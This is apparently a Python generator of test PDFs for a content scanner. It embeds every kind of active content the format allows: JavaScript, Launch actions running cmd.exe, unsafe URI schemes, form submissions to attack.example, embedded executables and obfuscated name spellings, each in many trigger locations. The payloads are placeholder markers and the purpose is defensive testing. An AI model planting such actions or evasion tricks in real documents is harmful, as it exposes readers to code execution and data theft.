"""Everything a PDF can be told to do: JavaScript, Launch, URI of unsafe schemes, GoToE, GoToR, SubmitForm, ImportData … in every place that
triggers one, and in every spelling of names, strings and streams."""
import zlib
from common import *

def spelled(name):
    """#xx for letters (7.3.5)"""
    return '/' + ''.join(f'#{ord(c):02x}' if i % 2 else c for i, c in enumerate(name))

def actions():
    """(name, action with the word, note)"""
    for name, text in (('javascript', '<</S/JavaScript/JS(app.alert\\("{m}"\\))>>'), ('javascript-named', '<</Type/Action/S {js}/JS({m})>>'), ('javascript-hex', '<</S/JavaScript/JS<{hex}>>>'), ('javascript-octal', '<</S/JavaScript/JS({octal})>>'), ('javascript-utf16', '<</S/JavaScript/JS<FEFF{wide}>>>'),
                       ('launch', '<</S/Launch/F({m}.exe)>>'), ('launch-win', '<</S/Launch/Win<</F(cmd.exe)/P(/c {m})>>>>'), ('launch-unix', '<</S/Launch/Unix({m})>>'), ('launch-url', '<</S/Launch/F<</FS/URL/F(http://attack.example/{m})>>>>'),
                       ('uri-file', '<</S/URI/URI(file:///c:/{m})>>'), ('uri-unc', '<</S/URI/URI(\\\\\\\\attack.example\\\\{m})>>'), ('uri-javascript', '<</S/URI/URI(javascript:{m})>>'), ('uri-javascript-case', '<</S/URI/URI(JaVaScRiPt:{m})>>'), ('uri-tab', '<</S/URI/URI(java\\tscript:{m})>>'), ('uri-newline', '<</S/URI/URI(\\njavascript:{m})>>'),
                       ('uri-data', '<</S/URI/URI(data:text/html,{m})>>'), ('uri-ms', '<</S/URI/URI(ms-msdt:/id {m})>>'), ('uri-search', '<</S/URI/URI(search-ms:query={m})>>'), ('uri-vbscript', '<</S/URI/URI(vbscript:{m})>>'), ('uri-relative', '<</S/URI/URI(../../{m}.exe)>>'), ('uri-entity', '<</S/URI/URI(javascript&#58;{m})>>'),
                       ('gotoe', '<</S/GoToE/T<</R/C/N({m})>>/D[0/Fit]>>'), ('gotor', '<</S/GoToR/F(\\\\\\\\attack.example\\\\{m}.pdf)/D[0/Fit]>>'), ('gotodp', '<</S/GoToDp/Dp({m})>>'), ('submit', '<</S/SubmitForm/F<</FS/URL/F(http://attack.example/{m})>>>>'), ('submit-fdf', '<</S/SubmitForm/F(http://attack.example/{m}#FDF)/Flags 4>>'), ('import', '<</S/ImportData/F(//attack.example/{m}.fdf)>>'), ('reset', '<</S/ResetForm/Fields[({m})]>>'),
                       ('hide', '<</S/Hide/T({m})>>'), ('named', '<</S/Named/N/{m}>>'), ('thread', '<</S/Thread/F({m}.pdf)/D 0>>'), ('sound', '<</S/Sound/{m} 1>>'), ('movie', '<</S/Movie/T({m})>>'), ('rendition', '<</S/Rendition/OP 0/JS({m})>>'), ('3d', '<</S/GoTo3DView/V({m})>>'), ('richmedia', '<</S/RichMediaExecute/CMD<</C({m})>>>>'),
                       ('unknown', '<</S/{m}/JS(a)>>'), ('no-kind', '<</JS({m})/URI({m})>>'), ('two-kinds', '<</S/GoTo/S/JavaScript/D[3 0 R/Fit]/JS({m})>>'), ('next', '<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS({m})>>>>'), ('next-array', '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>><</S/Launch/F({m})>>]>>')):
        marker = mark('pdf-action-' + name)
        yield name, marker, text.replace('{js}', spelled('JavaScript')).replace('{hex}', marker.encode().hex()).replace('{wide}', marker.encode('utf-16-be').hex()).replace('{octal}', ''.join(f'\\{ord(c):03o}' for c in marker)).replace('{m}', marker)

PLACES = {'open': dict(catalog='/OpenAction 6 0 R'), 'catalog-aa': dict(catalog='/AA<</WC 6 0 R/DS 6 0 R>>'), 'page-aa': dict(page='/AA<</O 6 0 R/C 6 0 R>>'), 'page-aa-spelled': dict(page='/#41A<</#4F 6 0 R>>'),
          'link': dict(page='/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 6 0 R>>]'), 'link-pa': dict(page='/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/PA 6 0 R/Dest[3 0 R/Fit]>>]'),
          'annotation-aa': dict(page='/Annots[<</Type/Annot/Subtype/Square/Rect[0 0 9 9]/AA<</E 6 0 R/U 6 0 R>>>>]'), 'widget': dict(page='/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A 6 0 R/AA<</K 6 0 R/F 6 0 R/V 6 0 R/C 6 0 R>>>>]'),
          'outline': dict(catalog='/Outlines<</Type/Outlines/First 7 0 R/Last 7 0 R>>', second='<</Title(t)/A 6 0 R>>'), 'names': dict(catalog='/Names<</JavaScript<</Names[(a)6 0 R]>>>>'), 'names-dest': dict(catalog='/Names<</Dests<</Names[(a)6 0 R]>>>>/OpenAction(a)'),
          'field-aa': dict(catalog='/AcroForm<</Fields[7 0 R]/CO[7 0 R]>>', second='<</FT/Tx/T(a)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/P 3 0 R/AA<</K 6 0 R/F 6 0 R/V 6 0 R/C 6 0 R>>>>', page='/Annots[7 0 R]'),
          'structure': dict(catalog='/StructTreeRoot<</Type/StructTreeRoot/K<</Type/StructElem/S/P/A 6 0 R/K 0/Pg 3 0 R>>>>'), 'bead': dict(catalog='/Threads[<</F<</T 3 0 R/A 6 0 R>>/I 6 0 R>>]'), 'collection': dict(catalog='/Extensions<</ADBE 6 0 R>>'), 'uri-base': dict(catalog='/URI<</Base(http://a.example/)/A 6 0 R>>'),
          'requirements': dict(catalog='/Requirements[<</S/EnableJavaScripts/RH[<</S/JS/Script 6 0 R>>]>>]'), 'group': dict(page='/Group<</S/Transparency/A 6 0 R>>'), 'metadata': dict(catalog='/PieceInfo<</A 6 0 R>>'), 'unknown': dict(catalog='/ZZZ 6 0 R'), 'font': dict(page='/B[6 0 R]/Tabs 6 0 R'), 'layer': dict(catalog='/OCProperties<</OCGs[]/D<</Order[]/A 6 0 R>>>>')}

def at_place(place, action):
    more = dict(PLACES[place]); second = more.pop('second', None)
    return pdf([action] + ([second] if second else []), **more)

def files():
    marker = mark('pdf-embedded')
    inner = stream(marker.encode(), '/Type/EmbeddedFile')
    spec = '<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 6 0 R>>>>'
    packed = stream(zlib.compress(b'MZ' + marker.encode()), '/Type/EmbeddedFile/Filter/FlateDecode')
    yield 'embedded-names', marker, pdf([inner, spec], catalog='/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>')
    yield 'embedded-packed', marker, pdf([packed, spec], catalog='/Names<</EmbeddedFiles<</Kids[<</Limits[(a)(a)]/Names[(a)7 0 R]>>]>>>>')
    yield 'embedded-annotation', marker, pdf([inner, spec], page='/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 7 0 R>>]')
    yield 'embedded-associated', marker, pdf([inner, spec], catalog='/AF[7 0 R]')
    yield 'embedded-page', marker, pdf([inner, spec], page='/AF[7 0 R]')
    yield 'embedded-rich', marker, pdf([inner, spec], page='/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a.swf)7 0 R]>>>>>>]')
    yield 'embedded-screen', marker, pdf([inner, spec], page='/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/R<</S/MR/C<</S/MCD/D 7 0 R>>>>>>>>]')
    yield 'embedded-3d', marker, pdf([stream(marker.encode(), '/Type/3D/Subtype/U3D/OnInstantiate 6 0 R')], page='/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 6 0 R>>]')
    yield 'embedded-movie', marker, pdf([inner], page=f'/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F({marker})>>>>]')
    yield 'xfa', marker, pdf([stream(f'<xdp><script>{marker}</script></xdp>'.encode())], catalog='/AcroForm<</Fields[]/XFA 6 0 R>>')
    yield 'xfa-parts', marker, pdf([stream(f'<template><script>{marker}</script></template>'.encode())], catalog='/AcroForm<</Fields[]/XFA[(template)6 0 R]>>')
    yield 'external-stream', marker, pdf([f'<</Length 0/F<</FS/URL/F(http://attack.example/{marker})>>/Type/XObject/Subtype/Form/BBox[0 0 9 9]>>\nstream\n\nendstream'], content=b'/F Do', page='/Resources<</XObject<</F 6 0 R>>>>')
    yield 'reference-form', marker, pdf([f'<</Length 0/Ref<</F(//attack.example/{marker})/Page 0>>/Type/XObject/Subtype/Form/BBox[0 0 9 9]>>\nstream\n\nendstream'], content=b'/F Do', page='/Resources<</XObject<</F 6 0 R>>>>')
    yield 'alternate-image', marker, pdf([stream(b'\0', f'/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Alternates[<</Image 7 0 R>>]/OPI<</1.3<</F({marker})>>>>'), stream(marker.encode())], content=b'/F Do', page='/Resources<</XObject<</F 6 0 R>>>>')
    yield 'postscript', marker, pdf([stream(marker.encode(), '/Type/XObject/Subtype/PS')], content=b'/F Do', page='/Resources<</XObject<</F 6 0 R>>>>')
    yield 'metadata', marker, pdf([stream(f'<x:xmpmeta>{marker}</x:xmpmeta>'.encode(), '/Type/Metadata/Subtype/XML')], catalog='/Metadata 6 0 R')
    yield 'signature', marker, pdf([f'<</Type/Sig/Filter/Adobe.PPKLite/Contents<{marker.encode().hex()}>/Reference[<</TransformMethod/UR3/Data({marker})>>]>>'], catalog='/Perms<</UR3 6 0 R>>/AcroForm<</SigFlags 3/Fields[<</FT/Sig/T(s)/V 6 0 R>>]>>')
    yield 'web-capture', marker, pdf([f'<</URL({marker})>>'], catalog='/SpiderInfo<</V 1/C[6 0 R]>>')
    yield 'unreferenced', marker, pdf([stream(marker.encode()), f'<</S/JavaScript/JS({marker})>>'])
    yield 'comment', marker, pdf().replace(b'1 0 obj', b'%' + marker.encode() + b'\n1 0 obj', 1)
    yield 'info', marker, pdf([f'<</Title(t)/Author({marker})/Custom({marker})>>'], trailer='/Info 6 0 R')

def samples():
    every = list(actions())
    for name, marker, action in every:
        for place in PLACES if name in ('javascript', 'launch') else ('open', 'link'):
            yield either(f'{name}-{place}.pdf', at_place(place, action), 'damaged', 'pdf_portfolio', marker=marker)
    for name, marker, data in files():
        yield either(f'{name}.pdf', data, 'damaged', 'pdf_xfa_only', 'pdf_portfolio', marker=marker)
    marker = mark('pdf-spelled')
    for number, page in enumerate(('/Annots[<</Type/Annot/#53ubtype/#4c#69nk/Rect[0 0 9 9]/#41<</#53/#4a#61vaScript/#4a#53({m})>>>>]', '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScr#69pt/JS({m})>>>>]', '/Annots %x\n[<</Subtype%y\n/Link/Rect[0 0 9 9]/A<</S%z\r/Launch/F({m})>>>>]', '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http:javascript:{m}\\\n)/S/JavaScript/JS({m})>>>>]')):
        yield either(f'spelled-{number}.pdf', pdf(page=page.replace('{m}', marker)), 'damaged', marker=marker)
    for version in ('1.0', '1.9', '2.0', '9.9', '-1', 'x'):
        yield either(f'version-{version}.pdf', pdf([f'<</S/JavaScript/JS({marker})>>'], catalog='/OpenAction 6 0 R', version=version), 'unknown_type', 'damaged', marker=marker)
    for number, head in enumerate((b'%!PS-Adobe-3.0 PDF-1.4\n', b'\n' * 900, b'<html>' + b' ' * 100, b'MZ' + b'\0' * 62, b'GIF89a', b'\xef\xbb\xbf', b'PK\3\4' + bytes(26))):
        yield either(f'head-{number}.pdf', head + pdf([f'<</S/JavaScript/JS({marker})>>'], catalog='/OpenAction 6 0 R'), 'unknown_type', 'damaged', 'banned_type', 'postscript_program', 'zip_ambiguous', 'markup_bad', 'too_many_pixels', marker=marker)
